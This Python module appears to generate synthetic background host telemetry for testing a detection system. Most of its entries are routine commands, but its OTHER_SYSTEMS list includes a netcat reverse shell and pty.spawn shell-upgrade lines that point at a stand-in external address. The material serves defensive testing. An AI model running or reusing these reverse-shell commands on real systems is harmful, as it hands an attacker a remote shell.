"""Ordinary activity on the hosts: none of it alerts, some of it comes near."""

from documents import HOSTS, MAC, WINDOWS, Dice, Event

SPAN_MS = 3_000_000

# Name, arguments, parent, and where its connection goes, if it makes one.
ROUTINE = [
    ("ls", ["ls", "-la", "/srv"], "bash", None),
    ("cat", ["cat", "/etc/os-release"], "bash", None),
    ("ps", ["ps", "aux"], "sh", None),
    ("grep", ["grep", "-c", "^processor", "/proc/cpuinfo"], "sh", None),
    ("awk", ["awk", "{print $1}"], "bash", None),
    ("gawk", ["gawk", "-F:", "$3 >= 1000 {print $1}", "/etc/passwd"], "dash", None),
    ("cron", ["/usr/sbin/CRON", "-f"], "cron", None),
    ("run-parts", ["run-parts", "--report", "/etc/cron.hourly"], "sh", None),
    ("apt-get", ["apt-get", "-qq", "update"], "python3", "198.51.100.80"),
    ("curl", ["curl", "-fsS", "https://registry.internal/health"], "bash", "10.20.0.9"),
    ("wget", ["wget", "-q", "https://deb.debian.org/debian/dists/stable/Release"], "sh", "198.51.100.80"),
    ("ssh", ["ssh", "-o", "BatchMode=yes", "db-01", "uptime"], "bash", "10.20.0.21"),
    ("git", ["git", "fetch", "--all", "--prune"], "bash", "198.51.100.44"),
    ("python3", ["python3", "/usr/bin/unattended-upgrade", "--download-only"], "sh", "198.51.100.80"),
    ("python3", ["python3", "-c", "import json,sys; print(json.load(sys.stdin)['version'])"], "bash", None),
    ("python3", ["python3", "-m", "pip", "install", "-r", "requirements.txt"], "bash", "198.51.100.12"),
    ("python3", ["python3", "-c", "import subprocess; subprocess.call(['make'])"], "make", "10.20.0.37"),
    ("perl", ["perl", "-e", "print join(' ', sort @ARGV)", "b", "a"], "bash", None),
    ("perl", ["perl", "/usr/bin/ack", "TODO"], "bash", None),
    ("ruby", ["ruby", "-e", "puts RUBY_VERSION"], "bash", None),
    ("ruby", ["ruby", "bin/rails", "runner", "Job.run"], "sh", "10.20.0.21"),
    ("php", ["php", "-r", "echo PHP_VERSION;"], "sh", None),
    ("php-fpm8.2", ["php-fpm: pool www"], "php-fpm8.2", "10.20.0.21"),
    ("lua5.4", ["lua5.4", "-e", "print(_VERSION)"], "bash", None),
    ("openssl", ["openssl", "x509", "-noout", "-enddate", "-in", "/etc/ssl/site.pem"], "bash", None),
    ("openssl", ["openssl", "version"], "bash", None),
    ("nc", ["nc", "-z", "-w1", "10.20.0.21", "5432"], "bash", "10.20.0.21"),
    ("nc", ["nc", "-h"], "bash", None),
    ("telnet", ["telnet"], "bash", None),
    ("java", ["java", "-jar", "/opt/app/app.jar"], "systemd", "10.20.0.21"),
    ("node", ["node", "server.js"], "systemd", "10.20.0.9"),
    ("postgres", ["postgres: checkpointer"], "postgres", None),
    ("sshd", ["sshd: deploy [priv]"], "sshd", "10.20.0.5"),
    ("systemctl", ["systemctl", "is-active", "nginx"], "bash", None),
    ("tar", ["tar", "-czf", "/var/backups/srv.tgz", "/srv"], "sh", None),
    ("make", ["make", "-j8"], "bash", None),
    ("gcc", ["gcc", "-c", "-O2", "main.c"], "make", None),
]
OTHER_SYSTEMS = [
    (MAC, "zsh", ["zsh", "-l"], "Terminal", None),
    (MAC, "python3", ["python3", "-c", "import pty; pty.spawn('sh')"], "zsh", "203.0.113.61"),
    (MAC, "nc", ["nc", "-e", "/bin/sh", "203.0.113.61", "4444"], "bash", "203.0.113.61"),
    (WINDOWS, "powershell.exe", ["powershell.exe", "-NoProfile", "-File", "inventory.ps1"], "explorer.exe", "10.20.0.9"),
    (WINDOWS, "python.exe", ["python.exe", "-c", "import pty; pty.spawn('sh')"], "bash", "203.0.113.61"),
]
SHAPES = ["nested"] * 9 + ["dotted", "mixed", "hit"]


def life(at, number, host, name, args, parent, ip):
    """What one process does: fork or exec, perhaps a look-up and a connection, perhaps a file, an end."""
    dice = Dice(f"background {number}")
    common = dict(host=host, entity="e", shape=dice.pick(SHAPES))
    events = [Event("process", at, name, "start", args=args, parent=parent, action=dice.pick(["exec", "exec", "fork"]), **common)]
    if ip:
        if dice.below(3) == 0:
            events.append(Event("dns", at + 10, name, "dns", action="lookup_requested", **common))
        events.append(Event("network", at + 20 + dice.below(400), name, "connect", ip=ip, action="connection_attempted", **common))
        if dice.below(2) == 0:
            events.append(Event("network", at + 900 + dice.below(900), name, "disconnect", ip=ip, action="disconnect_received", **common))
    elif dice.below(4) == 0:
        events.append(Event("file", at + 60, name, "file", action="creation", **common))
    if dice.below(3):
        events.append(Event("process", at + 1900 + dice.below(600), name, "end", args=args, parent=parent, action="end", **common))
    for event in events:
        event.scenario = f"background {number}"
        event.delay_ms = dice.below(150) if dice.below(8) else dice.below(3000)
    return events


def events(lives):
    dice = Dice("background")
    for number in range(lives):
        at = number * SPAN_MS // lives + dice.below(9000)
        if dice.below(24) == 0:
            host, name, args, parent, ip = dice.pick(OTHER_SYSTEMS)
        else:
            host = dice.pick(HOSTS)
            name, args, parent, ip = dice.pick(ROUTINE)
        yield from life(at, number, host, name, args, parent, ip)
